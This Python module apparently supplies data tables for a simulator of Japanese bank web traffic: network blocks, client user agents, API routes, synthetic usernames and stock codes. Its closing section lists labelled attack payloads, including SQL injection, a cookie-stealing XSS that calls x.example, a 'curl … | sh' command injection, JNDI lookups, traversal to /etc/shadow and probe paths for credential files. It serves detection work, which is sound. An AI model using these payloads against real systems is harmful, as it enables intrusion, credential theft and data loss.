"""Static lookup tables of the simulator: networks, clients, routes, tickers, payloads.

Everything here is data, not behaviour. ASN numbers and organisation names are real public registrations
(so that an ASN-reputation feature has something sensible to learn); the address blocks attached to them are
synthetic (``/16`` bases chosen for the simulation, not the operators' real allocations). JA3 fingerprints
are synthetic 32-hex digests of the client-stack name: stable per TLS stack, as real ones are, but not the
real values.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass

import numpy as np
import polars as pl

# ---------------------------------------------------------------------------------------------- networks
# kind: 0 fixed-line ISP (JP), 1 mobile carrier (JP, CGNAT), 2 hosting / cloud, 3 foreign residential,
#       4 VPN / anonymiser hosting
ISP, MOBILE, HOSTING, FOREIGN, VPN = 0, 1, 2, 3, 4


@dataclass(frozen=True)
class Asn:
    """One autonomous system: number, organisation, country, kind and synthetic /16 bases."""

    number: int
    org: str
    country: str
    kind: int
    bases: tuple[int, ...]  # first two octets packed as (a << 8) | b


def _b(*pairs: tuple[int, int]) -> tuple[int, ...]:
    return tuple((a << 8) | b for a, b in pairs)


ASNS: tuple[Asn, ...] = (
    # fixed-line ISPs in Japan (weights in ISP_WEIGHTS)
    Asn(4713, "NTT Communications Corporation", "JP", ISP, _b((153, 139), (180, 9), (114, 160), (60, 41))),
    Asn(2516, "KDDI CORPORATION", "JP", ISP, _b((106, 184), (111, 86), (27, 81))),
    Asn(17676, "SoftBank Corp.", "JP", ISP, _b((126, 15), (126, 77), (219, 100))),
    Asn(2527, "Sony Network Communications Inc.", "JP", ISP, _b((118, 0), (220, 104))),
    Asn(2518, "BIGLOBE Inc.", "JP", ISP, _b((61, 205), (114, 180))),
    Asn(18126, "Chubu Telecommunications Company, Inc.", "JP", ISP, _b((61, 26), (118, 158))),
    Asn(17511, "OPTAGE Inc.", "JP", ISP, _b((61, 211), (122, 130))),
    Asn(
        4685,
        "Asahi Net",
        "JP",
        ISP,
        _b(
            (113, 150),
        ),
    ),
    Asn(
        7679,
        "QTNet, Inc.",
        "JP",
        ISP,
        _b(
            (61, 120),
        ),
    ),
    Asn(9824, "JCOM Co., Ltd.", "JP", ISP, _b((121, 2), (180, 47))),
    # mobile carriers (CGNAT: many customers share few addresses)
    Asn(9605, "NTT DOCOMO, INC.", "JP", MOBILE, _b((1, 66), (49, 96), (110, 163))),
    Asn(2516, "KDDI CORPORATION", "JP", MOBILE, _b((106, 128), (182, 250))),
    Asn(17676, "SoftBank Corp.", "JP", MOBILE, _b((126, 193), (126, 245))),
    Asn(138384, "Rakuten Mobile, Inc.", "JP", MOBILE, _b((133, 106), (157, 192))),
    # hosting / cloud
    Asn(16509, "Amazon.com, Inc.", "US", HOSTING, _b((3, 112), (13, 230), (18, 176), (54, 95))),
    Asn(14061, "DigitalOcean, LLC", "US", HOSTING, _b((159, 89), (167, 71), (178, 128))),
    Asn(20473, "The Constant Company, LLC", "US", HOSTING, _b((45, 32), (149, 28), (207, 148))),
    Asn(63949, "Akamai Connected Cloud", "US", HOSTING, _b((139, 162), (172, 104))),
    Asn(24940, "Hetzner Online GmbH", "DE", HOSTING, _b((88, 198), (95, 216), (116, 202))),
    Asn(16276, "OVH SAS", "FR", HOSTING, _b((51, 75), (54, 37), (145, 239))),
    Asn(9370, "SAKURA Internet Inc.", "JP", HOSTING, _b((153, 127), (160, 16))),
    Asn(7506, "GMO Internet Group, Inc.", "JP", HOSTING, _b((150, 95), (157, 7))),
    Asn(45102, "Alibaba (US) Technology Co., Ltd.", "SG", HOSTING, _b((47, 74), (8, 219))),
    Asn(132203, "Tencent Building, Kejizhongyi Avenue", "HK", HOSTING, _b((43, 128), (129, 226))),
    # foreign residential / mobile
    Asn(7922, "Comcast Cable Communications, LLC", "US", FOREIGN, _b((73, 15), (98, 207))),
    Asn(4766, "Korea Telecom", "KR", FOREIGN, _b((175, 223), (121, 134))),
    Asn(3462, "Data Communication Business Group", "TW", FOREIGN, _b((36, 224), (114, 36))),
    Asn(9299, "Philippine Long Distance Telephone Company", "PH", FOREIGN, _b((112, 198), (120, 29))),
    Asn(45899, "VNPT Corp", "VN", FOREIGN, _b((113, 172), (14, 177))),
    Asn(4134, "CHINANET-BACKBONE", "CN", FOREIGN, _b((36, 112), (117, 136))),
    Asn(3320, "Deutsche Telekom AG", "DE", FOREIGN, _b((79, 192), (91, 58))),
    Asn(2856, "British Telecommunications PLC", "GB", FOREIGN, _b((81, 128), (86, 150))),
    Asn(7552, "Viettel Group", "VN", FOREIGN, _b((27, 72), (171, 224))),
    Asn(45758, "Triple T Broadband Public Company Limited", "TH", FOREIGN, _b((49, 228), (171, 96))),
    # VPN / anonymisers
    Asn(9009, "M247 Europe SRL", "RO", VPN, _b((89, 187), (185, 156))),
    Asn(212238, "Datacamp Limited", "GB", VPN, _b((84, 17), (156, 146))),
    Asn(60068, "Datacamp Limited", "GB", VPN, _b((89, 238), (185, 152))),
    Asn(136787, "TEFINCOM S.A.", "PA", VPN, _b((103, 107), (146, 70))),
)

ASN_KIND = np.array([a.kind for a in ASNS], dtype=np.int8)
ASN_NUMBER = pl.Series("n", [a.number for a in ASNS], dtype=pl.Int64)
ASN_ORG = pl.Series("o", [a.org for a in ASNS], dtype=pl.String)
ASN_COUNTRY = pl.Series("c", [a.country for a in ASNS], dtype=pl.String)


def asn_indices(kind: int) -> np.ndarray:
    """Indices into :data:`ASNS` of one kind."""
    return np.flatnonzero(ASN_KIND == kind)


ISP_IDX = asn_indices(ISP)
MOBILE_IDX = asn_indices(MOBILE)
HOSTING_IDX = asn_indices(HOSTING)
FOREIGN_IDX = asn_indices(FOREIGN)
VPN_IDX = asn_indices(VPN)
#: Market shares of fixed-line ISPs and mobile carriers (same order as the index arrays).
ISP_WEIGHTS = np.array([0.27, 0.18, 0.15, 0.12, 0.07, 0.05, 0.05, 0.04, 0.03, 0.04])
MOBILE_WEIGHTS = np.array([0.40, 0.28, 0.24, 0.08])
#: JP hosting providers are the ones a relay kit tends to rent (close to the victim bank).
JP_HOSTING_IDX = np.array([i for i in HOSTING_IDX if ASNS[i].country == "JP"])


def random_ips(rng: np.random.Generator, asn_idx: np.ndarray) -> np.ndarray:
    """Draw one IPv4 address (uint32) inside a synthetic block of each ASN index given."""
    asn_idx = np.asarray(asn_idx)
    nb = np.array([len(a.bases) for a in ASNS])
    flat = np.array([b for a in ASNS for b in a.bases], dtype=np.uint32)
    start = np.concatenate([[0], np.cumsum(nb)[:-1]])
    pick = start[asn_idx] + (rng.random(asn_idx.size) * nb[asn_idx]).astype(np.int64)
    base = flat[pick]
    low = rng.integers(256, 65279, size=asn_idx.size, dtype=np.uint32)
    low = np.where((low & 255) == 0, low + 1, low)
    low = np.where((low & 255) == 255, low - 1, low)
    return (base << np.uint32(16)) | low


def ip_strings(ips: np.ndarray) -> pl.Series:
    """Render uint32 addresses as dotted quads (vectorised)."""
    uniq, inverse = np.unique(np.asarray(ips, dtype=np.uint32), return_inverse=True)
    if uniq.size < inverse.size:
        return _quads(uniq).gather(pl.Series(inverse.astype(np.int64)))
    return _quads(uniq)


def _quads(ips: np.ndarray) -> pl.Series:
    parts = [
        pl.Series(((ips >> np.uint32(s)) & np.uint32(255)).astype(np.int64)).cast(pl.String) for s in (24, 16, 8, 0)
    ]
    frame = pl.DataFrame({"a": parts[0], "b": parts[1], "c": parts[2], "d": parts[3]})
    return frame.select(pl.concat_str(["a", "b", "c", "d"], separator=".")).to_series()


# ---------------------------------------------------------------------------------------------- clients
def _ja3(name: str) -> str:
    return hashlib.md5(name.encode()).hexdigest()  # noqa: S324 - a synthetic fingerprint, not security


#: TLS stacks -> synthetic JA3 digests.
JA3_STACKS: tuple[str, ...] = (
    "chrome-124",  # 0
    "safari-17",  # 1
    "firefox-125",  # 2
    "edge-124",  # 3
    "ios-nsurlsession-17",  # 4
    "android-okhttp-4.12",  # 5
    "python-requests-2.31",  # 6
    "go-http-1.22",  # 7
    "curl-8.5",  # 8
    "nodejs-20",  # 9
    "headless-chrome-puppeteer",  # 10
    "java-httpclient-17",  # 11
)
JA3 = pl.Series("ja3", [_ja3(s) for s in JA3_STACKS], dtype=pl.String)
JA3_CHROME, JA3_SAFARI, JA3_FIREFOX, JA3_EDGE, JA3_IOS, JA3_OKHTTP = 0, 1, 2, 3, 4, 5
JA3_PYTHON, JA3_GO, JA3_CURL, JA3_NODE, JA3_HEADLESS, JA3_JAVA = 6, 7, 8, 9, 10, 11

#: Browser user agents, with the TLS stack that really sends them. Desktop first, then mobile web.
BROWSER_UAS: tuple[tuple[str, int, bool], ...] = (
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36",
        JA3_CHROME,
        False,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/123.0.0.0 Safari/537.36",
        JA3_CHROME,
        False,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51",
        JA3_EDGE,
        False,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.4.1 Safari/605.1.15",
        JA3_SAFARI,
        False,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36",
        JA3_CHROME,
        False,
    ),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0", JA3_FIREFOX, False),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.4.1 Mobile/15E148 Safari/604.1",
        JA3_SAFARI,
        True,
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 16_7_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/16.6 Mobile/15E148 Safari/604.1",
        JA3_SAFARI,
        True,
    ),
    (
        "Mozilla/5.0 (Linux; Android 14; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.6367.82 Mobile Safari/537.36",
        JA3_CHROME,
        True,
    ),
    (
        "Mozilla/5.0 (Linux; Android 13; SO-51C) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/123.0.6312.118 Mobile Safari/537.36",
        JA3_CHROME,
        True,
    ),
    (
        "Mozilla/5.0 (Linux; Android 14; SC-51D) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.6367.82 Mobile Safari/537.36",
        JA3_CHROME,
        True,
    ),
)
BROWSER_DESKTOP_WEIGHTS = np.array([0.30, 0.12, 0.16, 0.16, 0.14, 0.12])
BROWSER_MOBILE_WEIGHTS = np.array([0.34, 0.14, 0.22, 0.15, 0.15])

#: Devices of the banking apps: (platform string for the app UA, TLS stack).
APP_DEVICES: tuple[tuple[str, int], ...] = (
    ("iPhone15,2; iOS 17.4.1", JA3_IOS),
    ("iPhone14,5; iOS 17.3", JA3_IOS),
    ("iPhone13,2; iOS 16.7.7", JA3_IOS),
    ("iPhone16,1; iOS 17.4.1", JA3_IOS),
    ("Android 14; Pixel 7", JA3_OKHTTP),
    ("Android 13; SO-51C", JA3_OKHTTP),
    ("Android 14; SC-51D", JA3_OKHTTP),
    ("Android 12; SH-53A", JA3_OKHTTP),
)
APP_IOS_WEIGHTS = np.array([0.35, 0.25, 0.15, 0.25])
APP_ANDROID_WEIGHTS = np.array([0.30, 0.25, 0.30, 0.15])

#: Scripted clients' honest user agents (what a tool sends unless told otherwise).
TOOL_UAS: tuple[tuple[str, int], ...] = (
    ("python-requests/2.31.0", JA3_PYTHON),
    ("Go-http-client/1.1", JA3_GO),
    ("curl/8.5.0", JA3_CURL),
    ("axios/1.6.8", JA3_NODE),
    ("Java/17.0.10", JA3_JAVA),
    ("sqlmap/1.8.4#stable (https://sqlmap.org)", JA3_PYTHON),
    ("Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", JA3_GO),
    (
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.0.0 Safari/537.36",
        JA3_HEADLESS,
    ),
)
TOOL_PYTHON, TOOL_GO, TOOL_CURL, TOOL_AXIOS, TOOL_JAVA, TOOL_SQLMAP, TOOL_NUCLEI, TOOL_HEADLESS = range(8)

#: Legitimate account aggregators (personal-finance apps polling balances with the customer's consent).
AGGREGATOR_UAS: tuple[str, ...] = (
    "KakeiboSync/3.2 (+https://kakeibo-sync.example/bot)",
    "MoneyLensFetcher/1.14 (+https://moneylens.example/aggregation)",
)


@dataclass(frozen=True)
class UaTable:
    """All user-agent strings of one bank, and the index ranges of each client family."""

    strings: pl.Series
    ja3: np.ndarray  # TLS stack per UA string
    browser0: int
    app0: int
    tool0: int
    agg0: int


def bank_ua_table(app_name: str, app_version: str) -> UaTable:
    """Build one bank's user-agent table (browsers, its own app on each device, tools, aggregators)."""
    strings: list[str] = []
    ja3: list[int] = []
    browser0 = 0
    for ua, stack, _mobile in BROWSER_UAS:
        strings.append(ua)
        ja3.append(stack)
    app0 = len(strings)
    for platform, stack in APP_DEVICES:
        strings.append(f"{app_name}/{app_version} ({platform}; Scale/3.00)")
        ja3.append(stack)
    tool0 = len(strings)
    for ua, stack in TOOL_UAS:
        strings.append(ua)
        ja3.append(stack)
    agg0 = len(strings)
    for ua in AGGREGATOR_UAS:
        strings.append(ua)
        ja3.append(JA3_JAVA)
    return UaTable(
        pl.Series("ua", strings, dtype=pl.String), np.array(ja3, dtype=np.int64), browser0, app0, tool0, agg0
    )


# ---------------------------------------------------------------------------------------------- endpoints
# Endpoint kinds. event.action is set for the authentication and banking ones.
(
    HOME,
    STATIC,
    LOGIN,
    OTP_ISSUE,
    OTP_VERIFY,
    SUMMARY,
    HISTORY,
    ACCOUNT,
    PAYEES,
    PAYEE_ADD,
    TRANSFER,
    PORTFOLIO,
    QUOTE,
    TRADE,
    LOGOUT,
    SIGNUP,
    PASSWORD_RESET,
    DEVICE_REGISTER,
    CONTACT_CHANGE,
    NOTIFICATIONS,
    PROBE,
) = range(21)
N_KINDS = 21

KIND_METHOD = (
    "GET", "GET", "POST", "POST", "POST", "GET", "GET", "GET", "GET", "POST", "POST",
    "GET", "GET", "POST", "POST", "POST", "POST", "POST", "PUT", "GET", "GET",
)  # fmt: skip
KIND_ACTION: tuple[str | None, ...] = (
    None, None, "login", "otp_issue", "otp_verify", None, None, None, None, "payee_add", "transfer",
    None, None, "trade", "logout", "signup", "password_reset", "device_register", "contact_change", None, None,
)  # fmt: skip
#: (median response bytes, sigma) per kind.
KIND_RESP_BYTES = (
    (5200, 0.2), (42000, 1.0), (420, 0.15), (160, 0.1), (380, 0.15), (2300, 0.5), (9800, 0.7), (1900, 0.3),
    (3100, 0.6), (290, 0.1), (520, 0.1), (4100, 0.6), (900, 0.2), (610, 0.1), (60, 0.05), (480, 0.1),
    (210, 0.1), (330, 0.1), (240, 0.1), (1500, 0.6), (240, 0.3),
)  # fmt: skip
#: (median server time in ms, sigma) per kind.
KIND_DURATION_MS = (
    (12, 0.4), (3, 0.5), (180, 0.4), (240, 0.4), (90, 0.4), (70, 0.5), (160, 0.6), (45, 0.4), (40, 0.4),
    (150, 0.4), (420, 0.5), (110, 0.5), (30, 0.4), (380, 0.5), (20, 0.3), (650, 0.4), (260, 0.4), (200, 0.4),
    (220, 0.4), (35, 0.5), (6, 0.5),
)  # fmt: skip

# Route vocabularies: bank i picks variant (i + k) mod len for each endpoint, so no two default banks share
# the full set. "{}" is where the object id (account number, asset name) goes.
ROUTE_PREFIXES = ("/api/v1", "/ib/api/v2", "/mobile/v3", "/openapi/v2", "/api/v4")
ROUTE_VARIANTS: dict[int, tuple[str, ...]] = {
    HOME: ("/", "/login", "/ib/index.html", "/top", "/web/login"),
    LOGIN: ("/auth/login", "/session", "/login", "/auth/token", "/signin"),
    OTP_ISSUE: ("/auth/otp", "/session/otp", "/mfa/challenge", "/auth/otp/send", "/otp/request"),
    OTP_VERIFY: ("/auth/otp/verify", "/session/otp/verify", "/mfa/verify", "/auth/otp/confirm", "/otp/verify"),
    SUMMARY: ("/accounts/summary", "/home/summary", "/accounts", "/balances", "/dashboard"),
    HISTORY: ("/accounts/{}/transactions", "/accounts/{}/history", "/deposits/{}/statements",
              "/accounts/{}/details/transactions", "/accounts/{}/activity"),
    ACCOUNT: ("/accounts/{}", "/accounts/{}/detail", "/deposits/{}", "/accounts/{}/info", "/account/{}"),
    PAYEES: ("/payees", "/transfer/payees", "/beneficiaries", "/payees/list", "/transfer/recipients"),
    PAYEE_ADD: ("/payees", "/transfer/payees", "/beneficiaries", "/payees/register", "/transfer/recipients"),
    TRANSFER: ("/transfers", "/transfer/execute", "/payments/domestic", "/transfers/domestic", "/transfer"),
    PORTFOLIO: ("/securities/portfolio", "/invest/holdings", "/brokerage/positions", "/nisa/portfolio",
                "/securities/holdings"),
    QUOTE: ("/securities/quote", "/invest/quote", "/brokerage/quote", "/market/quote", "/securities/price"),
    TRADE: ("/securities/orders", "/invest/orders", "/brokerage/orders", "/trade/orders", "/securities/trade"),
    LOGOUT: ("/auth/logout", "/session/logout", "/logout", "/auth/revoke", "/signout"),
    SIGNUP: ("/onboarding/apply", "/signup", "/accounts/open", "/onboarding/application", "/register"),
    PASSWORD_RESET: ("/auth/password/reset", "/session/password-reset", "/password/reset",
                     "/auth/recover", "/account/password/forgot"),
    DEVICE_REGISTER: ("/devices", "/session/devices", "/devices/register", "/auth/devices", "/device/bind"),
    CONTACT_CHANGE: ("/profile/contact", "/customer/contact", "/profile/phone", "/settings/contact",
                     "/me/contact"),
    NOTIFICATIONS: ("/notifications", "/inbox", "/messages", "/notices", "/alerts"),
}  # fmt: skip
STATIC_ASSETS = (
    "app.3f9a1c.js", "vendor.81be02.js", "main.c7d2e4.css", "logo.svg", "favicon.ico", "fonts/NotoSansJP.woff2",
    "runtime.2b0d11.js", "i18n/ja.json",
)  # fmt: skip


def bank_routes(bank_index: int) -> tuple[list[str], list[str]]:
    """Return (head, tail) path parts per endpoint kind for one bank; the object id goes between them."""
    prefix = ROUTE_PREFIXES[bank_index % len(ROUTE_PREFIXES)]
    heads: list[str] = []
    tails: list[str] = []
    for kind in range(N_KINDS):
        if kind == STATIC:
            heads.append("/static/")
            tails.append("")
            continue
        if kind == PROBE:
            heads.append("")
            tails.append("")
            continue
        variants = ROUTE_VARIANTS[kind]
        route = variants[(bank_index + kind) % len(variants)]
        if kind == HOME:
            full = route
        else:
            full = prefix + route
        head, _, tail = full.partition("{}")
        heads.append(head)
        tails.append(tail)
    # the payee list and payee add share a route on most banks (GET vs POST), as REST APIs do
    heads[PAYEE_ADD] = heads[PAYEES]
    return heads, tails


# ---------------------------------------------------------------------------------------------- people
GIVEN = (
    "haruto", "sota", "yuto", "riku", "minato", "ren", "hinata", "yamato", "sora", "kaito", "yui", "mei", "sakura",
    "himari", "rin", "aoi", "yuna", "mio", "hana", "akari", "takashi", "hiroshi", "kenji", "naoki", "yuki",
    "keiko", "yoko", "tomoko", "emi", "kazuki", "daiki", "shota", "ayaka", "misaki", "nana", "kana", "koji",
    "masato", "tatsuya", "yusuke",
)  # fmt: skip
FAMILY = (
    "sato", "suzuki", "takahashi", "tanaka", "watanabe", "ito", "yamamoto", "nakamura", "kobayashi", "kato",
    "yoshida", "yamada", "sasaki", "yamaguchi", "matsumoto", "inoue", "kimura", "hayashi", "shimizu", "mori",
    "abe", "ikeda", "hashimoto", "ishikawa", "ogawa", "fujita", "okada", "goto", "hasegawa", "murakami",
)  # fmt: skip
MAIL_DOMAINS = ("gmail.com", "yahoo.co.jp", "icloud.com", "docomo.ne.jp", "ezweb.ne.jp", "softbank.ne.jp",
                "outlook.jp", "nifty.com")  # fmt: skip
MAIL_WEIGHTS = np.array([0.34, 0.22, 0.14, 0.08, 0.07, 0.05, 0.06, 0.04])


def usernames(person: np.ndarray) -> pl.Series:
    """Login names (e-mail addresses) of people in the global population, unique per person (vectorised)."""
    person = np.asarray(person, dtype=np.int64)
    g = pl.Series(GIVEN).gather((person * 7919) % len(GIVEN))
    f = pl.Series(FAMILY).gather((person * 104729 // 7) % len(FAMILY))
    # the number is a bijection of the person id, so names are unique
    num = pl.Series(person).cast(pl.String)
    sep = pl.Series([".", "_", ""]).gather(person % 3)
    mailw = np.cumsum(MAIL_WEIGHTS)
    dom = pl.Series(MAIL_DOMAINS).gather(np.searchsorted(mailw, ((person * 40503) % 10007) / 10007.0, side="right"))
    frame = pl.DataFrame({"g": g, "s": sep, "f": f, "n": num, "d": dom})
    return frame.select(
        pl.concat_str([pl.col("g"), pl.col("s"), pl.col("f"), pl.col("n"), pl.lit("@"), pl.col("d")])
    ).to_series()


# ---------------------------------------------------------------------------------------------- markets
#: Liquid large caps customers hold (TSE codes).
LARGE_CAPS = ("7203", "6758", "9984", "8306", "9432", "6861", "8035", "4063", "9983", "6098", "8316", "7974",
              "4502", "6501", "8058", "2914", "9433", "6367", "7267", "1306")  # fmt: skip
#: Thin small caps a pump targets (synthetic codes in the TSE Growth range).
SMALL_CAPS = ("2158", "3691", "4395", "5139", "7078", "9221", "3985", "4488", "6573", "7370")

# ---------------------------------------------------------------------------------------------- payloads
#: Injection payloads, already percent-encoded for a query string: (payload, class).
INJECTION_QUERY: tuple[tuple[str, str], ...] = (
    ("%27%20OR%20%271%27%3D%271", "sqli"),
    ("1%27%20OR%201%3D1--%20-", "sqli"),
    ("1%20UNION%20SELECT%20NULL%2Cusername%2Cpassword%20FROM%20users--", "sqli"),
    ("1%27%3B%20WAITFOR%20DELAY%20%270%3A0%3A5%27--", "sqli"),
    ("1%20AND%20SLEEP(5)", "sqli"),
    ("1%27%20AND%20extractvalue(1%2Cconcat(0x7e%2Cversion()))--", "sqli"),
    ("%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", "xss"),
    ("%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "xss"),
    ("javascript%3Aalert(1)", "xss"),
    ("%3Csvg%2Fonload%3Dfetch(%27%2F%2Fx.example%2F%27%2Bdocument.cookie)%3E", "xss"),
    ("..%2F..%2F..%2F..%2Fetc%2Fpasswd", "traversal"),
    ("....%2F%2F....%2F%2F....%2F%2Fetc%2Fshadow", "traversal"),
    ("%2e%2e%2f%2e%2e%2f%2e%2e%2fwindows%2fwin.ini", "traversal"),
    ("%3Bcat%20%2Fetc%2Fpasswd", "cmdi"),
    ("%24(id)", "cmdi"),
    ("%7B%7B7*7%7D%7D", "ssti"),
    ("%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D", "jndi"),
)
#: Injection payloads for JSON bodies (raw).
INJECTION_BODY: tuple[str, ...] = (
    "' OR '1'='1",
    "admin'--",
    "1; DROP TABLE payees;--",
    '" UNION SELECT card_number FROM cards--',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.domain)>",
    "../../../../etc/passwd",
    "{{7*7}}",
    "${jndi:ldap://x.example/a}",
    "; curl http://x.example/s.sh | sh",
    '{"$ne": null}',
    "' AND 1=CONVERT(int,(SELECT @@version))--",
)
#: Paths a scanner probes that do not exist on a banking API.
PROBE_PATHS = (
    "/.env", "/.git/config", "/wp-login.php", "/admin", "/phpmyadmin/index.php", "/actuator/env", "/server-status",
    "/api/v1/../../etc/passwd", "/backup.zip", "/config.json", "/.aws/credentials", "/graphql", "/swagger.json",
    "/console", "/cgi-bin/luci", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
)  # fmt: skip
